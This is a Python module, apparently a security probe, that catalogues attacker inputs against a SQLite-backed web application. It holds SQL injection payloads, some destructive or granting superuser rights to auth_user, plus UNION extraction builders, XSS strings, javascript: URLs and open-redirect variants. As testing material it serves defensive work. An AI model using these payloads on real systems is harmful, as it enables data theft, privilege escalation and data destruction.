"""Probe P14: what attackers send, by technique.

Nothing in here knows a project: what is more than text takes the names that an attacker would have
found out. Every payload is written for SQLite, and is cheap: one that works wastes no more than a
moment.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Sequence

#: A text that no column holds, in front of what is to be executed.
NOTHING = "zzqx"

#: What ends a text in a statement, around which there may be wildcards and parentheses.
CLOSINGS = ("'", "%'", "')", "%')", "'))", '"', '")')

#: Half of a text, and what may be taken for its end.
QUOTES = ("'", "''", "'''", '"', '""', "`", "\\'", "\\", "\\\\'", "';", "%27", "\u2019", "\uff07")

#: Makes a comment of what follows, or begins in the middle of one.
COMMENTS = ("--", "-- ", "';--", "' --", "'/*", "/*", "*/", "/**/", "')--", "'))--", "\n--\n")

#: Always true, for different ways to end a text.
TAUTOLOGIES = (
    "' OR 1=1 --",
    "' OR '1'='1",
    "') OR ('1'='1",
    "%' OR '%'='",
    "%') OR ('%'='",
    "'/**/oR/**/1/**/=/**/1/*",
    "' OR 1=1) /*",
    "') OR 1=1 /*",
    '" OR ""="',
    "1 OR 1=1",
    "0 OR 1",
)

#: Another statement after the first.
STACKED = (
    "'; DELETE FROM auth_user; --",
    "'); UPDATE auth_user SET is_superuser = 1; --",
    "1; DROP TABLE auth_user",
    "'; PRAGMA writable_schema = 1; --",
)

#: Expressions that take noticeably longer where they are evaluated at all.
DELAYS = (
    "(SELECT hex(randomblob(1000000)))",
    "(WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 20000) SELECT max(i) FROM n)",
    "(SELECT count(*) FROM sqlite_master a, sqlite_master b, sqlite_master c)",
)

#: Expressions that fail where they are evaluated.
FAILURES = (
    "(SELECT abs(-9223372036854775808))",
    "(SELECT load_extension('x'))",
    "(SELECT json('{'))",
    "(SELECT 1 FROM nowhere)",
)

#: Means "anything" to LIKE, to GLOB or to a regular expression.
WILDCARDS = ("%", "%%", "_", "%_%", "_%", "*", "?", "[a-z]", ".*", "^", "(", "[", "\\%", "!%")

#: Means something to whatever formats texts.
FORMATS = ("%s", "'%s'", "%(name)s", "%d", "{}", "{0}", "{self}", "{0.__class__}", "$1", ":name", "@name")

#: Names that mean something to the methods that take keywords, or to nobody.
KEYWORDS = (
    "_connector",
    "_negated",
    "pk",
    "pk__in",
    "id__gte",
    "self",
    "args",
    "kwargs",
    "using",
    "defaults",
    "__class__",
    "__",
    "a__b__c__d",
)

#: Names of columns that break out of the quotes around a name, or mean something inside of them.
ALIASES = (
    'x" FROM auth_user --',
    'x", password AS "y',
    "x' --",
    "x`",
    "x]",
    "x;y",
    "x--y",
    "x/*y*/",
    "x\ty",
    "x.y",
    "x)",
    "%(x)s",
    "x__y",
)

#: The same for keys of a JSON column.
JSON_KEYS = ("x' = 'y", "x') OR 1=1 --", "x')) = 'a' OR 1=1) --", 'x"', "$.x", "x[0]", "0")

#: Taken for numbers by some, and none, or too large for any column.
ODD_NUMBERS = (
    "heavy",
    "NaN",
    "inf",
    "1e400",
    "0x10",
    "5 or more",
    "--1",
    "1;1",
    "1'",
    "\u00bd",
    "\u00b2",
    "9" * 30,
    "9" * 5_000,
)

#: Taken for days by some, and none.
ODD_DATES = ("soon", "2026-02-31", "2026-13-01", "0000-00-00", "2026-1-", "2026-03-31'", "99999-01-01")

#: Characters that C, terminals or PostgreSQL trip over.
ODD_TEXTS = ("\0", "a\0b", "\ufffe", "\u202e", "\x1b[2J")

#: Addresses that run, or show, what is written in them, in ways that browsers understand.
ACTIVE_ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "  javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "DATA:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)

#: Longer than anybody types, and than SQLite takes for a pattern.
LONG_TEXT = "x" * 60_000
#: Half as long, but not any more when each character has been escaped.
LONG_WILDCARDS = "_" * 30_000
#: A name with more parts than there could ever be relations.
DEEP_PATH = "__".join(["a"] * 2_000)


def unions(expressions: Sequence[str], columns: int, table: str) -> list[str]:
    """Adds `expressions`, from each row of `table`, to the result of a statement with so many columns;
    once for each way to end a text."""
    nulls = ["NULL"] * (columns - len(expressions))
    select = f"UNION SELECT {', '.join([*expressions, *nulls])} FROM {table}"
    return [f"{NOTHING}{closing} {select} {end}" for closing in CLOSINGS for end in ("--", "/*")]


def questions(condition: str) -> list[str]:
    """Finds everything when `condition` holds and nothing when it does not; once for each way to end a
    text."""
    return [f"{NOTHING}{closing} OR {condition} /*" for closing in CLOSINGS]


def orderings(condition: str, one: str, other: str) -> list[str]:
    """Sorts by the column `one` when `condition` holds, and by `other` when it does not."""
    choice = f"CASE WHEN {condition} THEN {one} ELSE {other} END"
    return [choice, f"({choice})", f"{choice} --", f"(SELECT {choice})", f"{choice}, {one}"]


def lookups(paths: Iterable[str], prefix: str) -> list[tuple[str, str]]:
    """Keywords with values that ask whether a text begins with `prefix`, for texts that lie at these
    paths through the models."""
    values = {
        "startswith": prefix,
        "istartswith": prefix.upper(),
        "contains": prefix,
        "regex": f"^{re.escape(prefix)}",
        "gte": prefix,
    }
    return [(f"{path}__{lookup}", value) for path in paths for lookup, value in values.items()]


def elsewhere(host: str) -> list[str]:
    """Addresses that do not look as if they led to `host`, for who looks at how they begin."""
    return [
        f"https://{host}/",
        f"//{host}/",
        f"///{host}/",
        f"/\\{host}/",
        f"\\\\{host}/",
        f"/\t/{host}/",
        f"https:{host}",
        f"https:/{host}/",
        f"HTTP://{host}/",
        f"http://testserver@{host}/",
        f"http://{host}\\@testserver/",
        f"javascript:location='//{host}/'",
    ]


def elements(mark: str) -> list[str]:
    """Texts that are elements with the attribute `mark`, or code with that word, where a page takes them for
    HTML; also for who takes out or decodes something first."""
    return [
        f"<b {mark}>bold</b>",
        f"<script {mark}>{mark}()</script>",
        f"<ScRiPt/{mark}>{mark}()</sCrIpT >",
        f"<scr<script>ipt {mark}>{mark}()</scr</script>ipt>",
        f"<img src=x {mark} onerror={mark}()>",
        f'<IMG/SRC="x"/{mark}/onerror={mark}()>',
        f"<svg {mark}><animate onbegin={mark}() attributeName=x>",
        f"<details open {mark} ontoggle={mark}()>",
        f"</p></article><iframe {mark} srcdoc='<script>{mark}()</script>'></iframe>",
        f"<a {mark} href=javascript:{mark}()>here</a>",
        f"<style {mark}>@import '//{mark}.example'</style>",
        f"<base {mark} href=//{mark}.example/>",
        f"<!--><img {mark} src=x onerror={mark}()>-->",
        f"&lt;img {mark} src=x onerror={mark}()&gt;",
        f"&#60;img {mark} src=x&#62;",
        f"%3Cimg {mark} src=x%3E",
        f"\\u003cimg {mark} src=x\\u003e",
        f"<x{mark}>",
        f"</title></textarea></style></script><img {mark} src=x onerror={mark}()>",
    ]


def attributes(mark: str) -> list[str]:
    """Texts that become attributes of the element in whose attribute they stand."""
    return [
        f'" {mark} onmouseover="{mark}()',
        f"' {mark} onfocus='{mark}()' autofocus='",
        f"x {mark} onpointerenter={mark}()",
        f"x\t{mark}\tonclick={mark}()",
        f"x\f{mark}=1",
        f'"><img {mark} src=x onerror={mark}()>',
        f"'><img {mark} src=x onerror={mark}()>",
        f"x><img {mark} src=x onerror={mark}()>",
    ]


def code(mark: str) -> list[str]:
    """Texts that become code of the script in whose quotes they stand, or that end the script."""
    return [
        f'";{mark}();//',
        f"';{mark}();//",
        f"`;{mark}();//",
        f'\\";{mark}();//',
        f"\\';{mark}();//",
        f"${{{mark}()}}",
        f"</script><script {mark}>{mark}()</script>",
        f"<!--<script>{mark}",
        f"*/{mark}()/*",
        f"\u2028{mark}()\u2029",
        f"{mark}\\",
    ]


def addresses(mark: str) -> list[str]:
    """Addresses that run code with the word `mark`, or break out of the attribute in which they stand."""
    return [
        *(f"{way.partition('alert')[0]}{mark}()" for way in ACTIVE_ADDRESSES[:7]),
        f"data:text/html,<script>{mark}()</script>",
        f'https://{mark}.example/" {mark} onmouseover="{mark}()',
        f"https://{mark}.example/' {mark} onmouseover='{mark}()",
        f"https://{mark}.example/ {mark} onclick={mark}()",
        f"https://{mark}.example/><img {mark} src=x onerror={mark}()>",
        f"javascript&colon;{mark}()",
        f"java&#115;cript:{mark}()",
        f"javascript:{mark}()//http://{mark}.example/",
        f"http://{mark}.example/\njavascript:{mark}()",
    ]
